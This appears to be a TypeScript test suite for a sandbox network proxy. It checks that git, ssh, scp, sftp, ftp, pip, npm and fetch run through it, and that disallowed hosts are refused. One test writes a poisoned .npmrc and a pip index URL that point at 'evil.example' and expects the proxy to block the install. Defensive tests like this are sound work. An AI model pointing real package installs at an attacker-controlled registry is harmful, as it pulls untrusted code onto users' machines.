/** The programs that people really use, in a sandbox, through the proxy: git, ssh, scp, sftp, ftp, pip and npm. */
import { cpSync, existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { oldNpmProgram, oldNpmVersions } from '../../scripts/pretest/old-npms.ts';
import { createPackageSources } from '../../src/services/net/package-sources/read-package-hosts.ts';
import { startFtpServer } from '../kit/ftp-server.ts';
import { listen, type NetworkWorld, openNetworkWorld } from '../kit/network-world.ts';
import { type PackageServers, startPackageServers } from '../kit/package-servers.ts';
import { openShellWorld, type ShellWorld } from '../kit/shell-world.ts';
import { startSshServer } from '../kit/ssh-server.ts';

const host = 'packages.example';
let folder = '';
let servers: PackageServers;
let net: NetworkWorld;
let world: ShellWorld;

beforeAll(async () => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'handrail-servers-')));
  servers = await startPackageServers(folder, host);
  const packages = createPackageSources({
    root: join(folder, 'machine'),
    userHome: '/home/me',
    environment: {
      npm_config_registry: `http://me:npm-password@${host}:${servers.port}/npm/`,
      PIP_INDEX_URL: `http://me:pip-password@${host}:${servers.port}/pip/simple`,
      PIP_TRUSTED_HOST: host,
      GOPROXY: 'off',
      GOSUMDB: 'off',
    },
    ask: () => Promise.resolve(undefined),
  });
  net = openNetworkWorld({
    packages,
    lookUp: () => Promise.resolve(['127.0.0.1']),
    settings: {
      mode: 'allow-list',
      allow: [`code.example:${servers.port}`],
      allowPrivate: [`${host}:${servers.port}`, `code.example:${servers.port}`],
    },
  });
  world = openShellWorld({ sandbox: { network: net.network }, limits: { timeoutSeconds: 60, maxTimeoutSeconds: 120 } });
});

afterAll(async () => {
  await world.close();
  await net.close();
  servers.close();
  rmSync(folder, { recursive: true, force: true });
});

function open(target: string): void {
  net.settings.allow = [...net.settings.allow, target];
  net.settings.allowPrivate = [...net.settings.allowPrivate, target];
}

async function prints(command: string): Promise<string> {
  const result = await world.run(command);
  expect({ code: result.exitCode, notes: result.notes }, result.stderr.text).toEqual({ code: 0, notes: [] });
  return result.stdout.text;
}

test('[S26] git clones and pushes over http through the proxy', async () => {
  const url = `http://code.example:${servers.port}/git/code.git`;
  await prints(
    `git init -q -b main work && cd work && git config user.name A && git config user.email a@example.org && head -c 2000000 /dev/urandom >big && echo one >a && git add -A && git commit -qm one && git push -q ${url} main`,
  );
  expect(
    await prints(`git clone -q ${url} again && cat again/a && cmp work/big again/big && git -C again log --format=%s`),
  ).toBe('one\none\n');
});

test('[S26] git over ssh, ssh, scp and sftp go through the proxy, byte for byte', async () => {
  const ssh = await startSshServer();
  open(`box.example:${ssh.port}`);
  writeFileSync(join(world.workspace, 'id'), ssh.keyText);
  const at = `${ssh.user}@box.example`;
  const key = `-i id -o IdentitiesOnly=yes`;
  expect(await prints(`chmod 600 id; ssh ${key} -p ${ssh.port} ${at} echo over ssh 2>&1 | tail -1`)).toBe('over ssh\n');
  const there = join(folder, 'blob');
  const hashes = await prints(
    `head -c 3000000 /dev/urandom >blob && scp -q ${key} -P ${ssh.port} blob ${at}:${there} && scp -q ${key} -P ${ssh.port} ${at}:${there} back && cmp blob back && ` +
      `echo "get ${there} third" | sftp -q ${key} -P ${ssh.port} -b - ${at} >/dev/null && cmp blob third && ` +
      `ssh ${key} -p ${ssh.port} ${at} sha256sum <blob && sha256sum <blob`,
  );
  expect(new Set(hashes.trim().split('\n')).size).toBe(1);
  const clone = `GIT_SSH_COMMAND="ssh ${key}" git clone -q ssh://${at}:${ssh.port}${join(folder, 'git/code.git')} by-ssh`;
  await prints(`${clone} && test -f by-ssh/a`);
});

test('[A9] ssh to another host is refused, and says so in words', async () => {
  const result = await world.run(
    'ssh -S none -p 22 somebody@other.example true; git ls-remote ssh://x@other.example/y.git',
  );
  expect(result.exitCode).toBe(128);
  expect(result.stderr.text).toContain('Connection closed by');
  expect(result.notes.join()).toContain('network: refused other.example:22');
});

test('[A37] what starts as an ssh tunnel is no way to another port of the same host', async () => {
  const result = await world.run(`curl -sS -p http://box.example:${servers.port}/`);
  expect(result.notes.join()).toContain(`network: refused box.example:${servers.port}`);
});

test('pip installs from the machine’s own index, without its password', async () => {
  const out = await prints(
    'pip3 install -q --no-cache-dir --disable-pip-version-check --target site tiny-one 2>&1; PYTHONPATH=site python3 -c "import tiny_one; print(tiny_one.text)"; env',
  );
  expect(out).toContain('from pip\n');
  expect(out).toContain(`PIP_INDEX_URL=http://${host}:${servers.port}/pip/simple\n`);
  expect(out).not.toMatch(/npm-password|pip-password/);
});

test('npm installs from the machine’s own registry, without its password', async () => {
  const program = oldNpmProgram(join(import.meta.dirname, '../..'), oldNpmVersions[1]);
  if (!existsSync(program)) throw new Error('npm for the tests is missing; fetch it with: npm run pretest');
  mkdirSync(join(world.workspace, 'project'));
  cpSync(process.execPath, join(world.workspace, 'node'));
  cpSync(join(program, '../..'), join(world.workspace, 'npm'), { recursive: true });
  const out = await prints(
    'cd project && npm() { ../node ../npm/bin/npm-cli.js "$@"; } && npm init -y >/dev/null && npm install --no-audit --no-fund tiny 2>&1 && ../node -p "require(\'tiny\')"',
  );
  expect(out).toContain('added 1 package');
  expect(out).toContain('from npm\n');
  expect(servers.requests).toContain('GET /npm/tiny.tgz');
});

test('a registry that a project names is asked about like any host', async () => {
  const result = await world.run(
    'mkdir -p poisoned && cd poisoned && echo "registry=http://evil.example/" >.npmrc && ../node ../npm/bin/npm-cli.js install --no-audit --fetch-retries=0 tiny; pip3 install -q --retries 0 --index-url http://evil.example/simple tiny-one',
  );
  expect(result.exitCode).not.toBe(0);
  expect(result.notes.join()).toContain('network: refused evil.example:80 (it is not on the allow list');
});

test('[S26] ftp goes by SOCKS, both of its connections decided on', async () => {
  const ftp = await startFtpServer('a file by ftp\n');
  try {
    const url = `ftp://files.example:${ftp.port}/a.txt`;
    net.settings.allow = [...net.settings.allow, `files.example:${ftp.port}`];
    net.settings.allowPrivate = [
      ...net.settings.allowPrivate,
      `files.example:${ftp.port}`,
      `files.example:${ftp.dataPort}`,
    ];
    const half = await world.run(`curl -sS -m 20 ${url}`);
    expect(half.notes.join()).toContain(`network: refused files.example:${ftp.dataPort}`);
    net.settings.allow = [...net.settings.allow, 'files.example'];
    expect(await prints(`curl -sS -m 20 ${url}`)).toBe('a file by ftp\n');
  } finally {
    ftp.close();
  }
});

test('Node’s own fetch goes through the proxy', async () => {
  const server = createServer((_request, response) => void response.end('a page'));
  const port = await listen(server);
  net.settings.allow = [...net.settings.allow, 'web.example'];
  net.settings.allowPrivate = [...net.settings.allowPrivate, `web.example:${port}`];
  const url = `http://web.example:${port}/`;
  expect(await prints(`./node -e "fetch('${url}').then((r) => r.text()).then(console.log)"`)).toBe('a page\n');
  server.close();
});
